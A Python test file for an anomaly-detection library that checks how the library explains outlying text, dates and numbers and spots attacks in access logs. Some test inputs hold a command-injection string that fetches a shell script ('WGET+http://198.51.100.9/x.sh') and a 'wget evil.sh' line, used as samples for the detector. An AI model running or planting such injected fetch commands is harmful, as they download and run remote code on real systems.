"""Documents stand out by runs of characters, each once, whose sum is exact."""

from dataclasses import replace

import numpy as np
import pytest
from benchmarks.reasons import measured

from ramodo import REPEN, Consensus
from ramodo.datasets import make_access_log
from ramodo.explain.grouping import groups_of
from ramodo.explain.naming import explained
from ramodo.explain.passages import facts_of, passages
from ramodo.explain.reasons import Lacks, Reason, RowExplanation, Span
from ramodo.formats import How, Table, TextOptions
from ramodo.formats.cyclic_dates import on_circles
from ramodo.formats.schema import Column, Schema
from ramodo.formats.text import spans_of, vectorize
from ramodo.formats.text_and_columns import documents_of, with_texts
from ramodo.report.marking import marked

pytestmark = pytest.mark.slow

OPTIONS = TextOptions()


def worth_of(text, *odd):
    """Features of a text, and contributions: 1 for each token that lies in one of the odd pieces, 0.01 for others."""
    row = vectorize([text], OPTIONS)
    row.sort_indices()
    tokens = spans_of(text, OPTIONS)
    places = [(text.lower().find(piece), piece) for piece in odd]
    hot = {
        int(column)
        for column, begin, end in zip(tokens.columns, tokens.begins, tokens.ends, strict=True)
        if any(at <= begin and end <= at + len(piece) for at, piece in places)
    }
    return row.indices.astype(np.int64), np.array([1.0 if c in hot else 0.01 for c in row.indices.tolist()])


def test_overlapping_tokens_are_one_run_and_words_are_whole():
    text = "GET /cart/add?item=1;WGET+http://198.51.100.9/x.sh HTTP/1.1"
    columns, amounts = worth_of(text, "wget+http://198.51.100.9/x.sh")
    found, is_token = passages(text, columns, amounts, OPTIONS)
    assert is_token.all()
    assert [passage.text for passage in found] == ["WGET+http://198.51.100.9/x.sh"]
    assert found[0].contribution == pytest.approx(amounts[amounts == 1].sum(), rel=0.1)
    assert sum(passage.contribution for passage in found) < amounts.sum()


def test_what_reads_the_same_is_one_reason_with_several_places():
    text = "the quick  BONUS fox jumps over the bonus dog"
    columns, amounts = worth_of(text, "bonus")
    (passage,) = passages(text, columns, amounts, OPTIONS).found
    assert [text[span.begin : span.end] for span in passage.spans] == ["BONUS", "bonus"]


def test_places_are_characters_whatever_the_bytes_are():
    text = "  zażółć\tgęślą \U0001f600  jaźń viagra ok"
    columns, amounts = worth_of(text, "viagra")
    columns, amounts = worth_of(" ".join(text.split()), "viagra")
    row = vectorize([text], OPTIONS)
    row.sort_indices()
    hot = {c for c, a in zip(columns.tolist(), amounts.tolist(), strict=True) if a == 1}
    tokens = spans_of(text, OPTIONS)
    odd = [
        int(c)
        for c, a, b in zip(tokens.columns, tokens.begins, tokens.ends, strict=True)
        if b"viagra".find(tokens.normalised[a:b]) >= 0
    ]
    amounts = np.array([1.0 if c in odd or c in hot else 0.01 for c in row.indices.tolist()])
    (passage,) = passages(text, row.indices.astype(np.int64), amounts, OPTIONS).found
    assert passage.text == "viagra"
    assert text[passage.spans[0].begin : passage.spans[0].end] == "viagra"


def test_features_that_are_no_tokens_stay_what_they_are():
    text = "some words here"
    columns, amounts = worth_of(text)
    columns, amounts = np.append(columns, OPTIONS.n_features + 5), np.append(amounts, 7.0)
    assert passages(text, columns, amounts, OPTIONS).is_token.tolist() == [True] * (len(columns) - 1) + [False]
    assert passages("", np.array([3]), np.array([1.0]), OPTIONS).found == []


def test_a_line_that_is_odd_from_end_to_end_is_one_run():
    text = "wget evil.sh"
    columns, amounts = worth_of(text, text)
    (run,) = passages(text, columns, amounts, OPTIONS).found
    assert run.text == text
    assert run.contribution == pytest.approx(amounts.sum())


def test_runs_of_columns_of_documents_say_which_and_where():
    """Each column has runs of its own, whose places are those of the text that is shown."""
    fields = {"subject": ["ordinary words here"], "body": ["and then WGET+http://198.51.100.9/x.sh again"]}
    size = Table(np.array([[4.0]]), schema=Schema(columns=(Column(name="size"),)))
    table = with_texts(fields, size, How(schema=Schema(tokens=OPTIONS)))
    width = table.schema.columns[0].width
    columns = np.sort(table.X.indices).astype(np.int64)
    worth = dict(zip(*worth_of(fields["body"][0], "wget+http://198.51.100.9/x.sh"), strict=True))
    amounts = np.array([worth.get(column - width, 0.01) for column in columns.tolist()])
    found, is_token = facts_of(documents_of(table, 0), [], columns, amounts, OPTIONS)
    assert is_token.tolist() == [True] * (len(columns) - 1) + [False]
    assert found[0].name.startswith("body: 'WGET+http://198.51.100.9/x")
    (span,) = found[0].spans
    assert table.texts[0][span.begin : span.end] == found[0].text
    assert columns[found[0].places].min() >= width
    assert {run.field for run in found[1:]} == {"subject"}


def test_a_document_that_is_not_shown_has_runs_without_places():
    table = with_texts({"a": ["one"], "b": ["two"]}, Table(None), How(schema=Schema(tokens=OPTIONS)))
    table = replace(table, texts=["two"])
    assert [(document.field, document.begin) for document in documents_of(table, 0)] == [("a", None), ("b", 0)]


def test_an_hour_is_one_reason_as_people_write_it():
    """300 visits by day and one at night, with a category that only it has, and a number below zero."""
    rng = np.random.default_rng(0)
    hours = np.append(9 + 8 * rng.random(300), 3.2)
    columns = (Column(name="when", kind="date", first_day=0), Column(name="plan", kind="category", values=("root",)))
    schema = Schema(columns=(*columns, Column(name="balance")))
    others = np.stack([np.arange(301) == 300, np.where(np.arange(301) == 300, -2.0, rng.normal(-8, 1, 301))], axis=1)
    X = np.hstack([np.zeros((301, 1)), on_circles(3600 * hours), others])
    table = Table(X, schema=schema)
    detector = REPEN(random_state=0).fit(X)
    detector.feature_names_in_ = np.array(schema.names, dtype=object)
    why = explained(detector, table, [300], detector.outlier_scores_, 3)[0]
    said = {reason.feature: (reason.in_words(), reason.typical()) for reason in why.reasons}
    assert set(said) == {"when, hour of the day", "plan=root", "balance"}
    written, usual = said["when, hour of the day"]
    assert written == "when, hour of the day = 03:12"
    assert usual.startswith("usually around 1")
    assert said["plan=root"][0] == "plan=root"
    assert said["balance"][1].startswith("higher than usual: typically -7.")
    total = sum(reason.contribution for reason in why.reasons) + why.lacks.contribution + why.rest
    assert total == pytest.approx(why.score)


def test_rows_of_a_small_table_are_not_all_alike():
    """A row far out in all columns but the first, three high in the first, three low in it, and noise."""
    X = np.random.default_rng(0).normal(size=(300, 6))
    X[0, 1:] += 9
    X[1:4, 0] += 7
    X[4:7, 0] -= 7
    detector = Consensus(random_state=0).fit(X)
    groups = [set(group.rows) for group in detector.explain(X).groups(np.sort(detector.outlier_scores_)[-7])]
    assert sorted(map(sorted, groups)) == [[1, 2, 3], [4, 5, 6]]


def test_a_long_document_shows_where_its_reasons_are():
    text = "ordinary words " * 200 + "CASINO\x1b" + " more words" * 200
    at = text.index("CASINO")
    reason = Reason(
        column=0, feature="'CASINO'", value=1.0, contribution=2.0, share=0.0, mean=0.0, spans=(Span(at, at + 6, 2.0),)
    )
    shown, marks = marked(text, [reason], 300)
    assert len(shown) < 320
    assert shown.startswith("ordinary words")
    assert "\\x1b" in shown
    assert [shown[a:b] for a, b, _ in marks] == ["CASINO"]
    assert marked("a\n\n b", [], 300) == ("a b", [])


def test_fewer_than_usual_is_said():
    fewer = Reason(
        column=0, feature="'---'", value=6.0, contribution=1.0, share=0.98, mean=8.0, spans=(Span(0, 3, 1.0),)
    )
    assert fewer.typical().startswith("fewer than usual: in 98 % of references, typically 8")
    assert (
        Reason(column=0, feature="age", value=6.0, contribution=1.0, share=0.98, mean=8.0).compared()
        == "lower than usual"
    )
    assert Reason(column=0, feature="age", value=6.0, contribution=1.0, share=0.2, mean=8.0).compared() == ""
    assert (
        Reason(column=0, feature="balance", value=6.0, contribution=1.0, share=1.0, mean=-8.0).typical()
        == "higher than usual: typically -8"
    )
    assert (
        Reason(column=0, feature="size", value=30258.0, contribution=1.0, share=1.0, mean=18000.0).in_words()
        == "size = 30,258"
    )
    assert (
        Reason(column=0, feature="status=403", value=1.0, contribution=1.0, share=0.0, mean=0.0).in_words()
        == "status=403"
    )
    assert (
        Reason(
            column=0,
            feature="'x'",
            value=1.0,
            contribution=1.0,
            share=0.1,
            mean=1.0,
            spans=(Span(0, 1, 1.0),),
            merged=3,
            rows=4,
            n_rows=90,
        ).typical()
        == "in at most 4 of 90 rows"
    )
    assert (
        Reason(
            column=0,
            feature="'x'",
            value=1.0,
            contribution=1.0,
            share=0.0,
            mean=0.0,
            spans=(Span(0, 1, 1.0),),
            merged=3,
            rows=0,
            n_rows=90,
        ).typical()
        == "in none of 90 rows"
    )


def test_a_score_that_is_spread_out_is_said_to_be():
    reasons = tuple(
        Reason(column=i, feature=f"f{i}", value=1.0, contribution=1.4, share=0.1, mean=1.0) for i in range(10)
    )
    spread = RowExplanation(
        row=0,
        score=100.0,
        percentile=99.0,
        reasons=reasons,
        rest=80.0,
        nearest=(),
        views=(),
        lacks=Lacks(6.0, 312, ()),
        n_reasons=812,
    )
    assert spread.spread() == "no single reason: the strongest 10 of 812 features make 14 % of the score"
    enough = RowExplanation(
        row=0,
        score=16.0,
        percentile=99.0,
        reasons=reasons,
        rest=2.0,
        nearest=(),
        views=(),
        lacks=Lacks(0.0, 0, ()),
        n_reasons=812,
    )
    assert enough.spread() == ""


def test_a_score_that_no_single_reason_explains_names_none():
    def of(strongest, lacks=0.0):
        reason = Reason(column=0, feature="f", value=1.0, contribution=strongest, share=0.1, mean=1.0)
        rest = 100 - strongest - lacks
        facts = {"row": 0, "score": 100.0, "percentile": 99.0, "nearest": (), "n_reasons": 3_000}
        return RowExplanation(reasons=(reason,), rest=rest, lacks=Lacks(lacks, 9, ()), **facts)

    assert of(0.1).thin() == "spread over 3,000 features; no single one"
    assert of(0.1).spread() == "spread over 3,000 features; no single one: the strongest 1 make 0.1 % of the score"
    assert "width:10px" in of(10.0).as_html()  # of 100
    assert of(10.0).thin() == of(0.1, lacks=60.0).thin() == ""


def test_a_great_many_rows_are_grouped():
    """In several turns, of which the later ones join the groups of the first."""
    rng = np.random.default_rng(0)
    rows = [(np.array([i % 3, 10 + int(rng.integers(500))]), np.array([2.0, 0.5])) for i in range(4500)]
    rows += [(np.array([1000 + i]), np.array([1.0])) for i in range(3)]
    found = groups_of(rows, [float(4503 - i) for i in range(4503)], 0)
    assert [len(group) for group in found] == [1500, 1500, 1500]
    assert all(len({place % 3 for place in group}) == 1 for group in found)


def test_the_cause_of_an_attack_is_among_its_three_strongest_reasons():
    log = make_access_log(4_000, random_state=0)
    found = measured(log.lines, log.kinds, log.causes)
    assert found.n >= 12
    assert found.named >= 0.8
    assert found.agreement >= 0.5
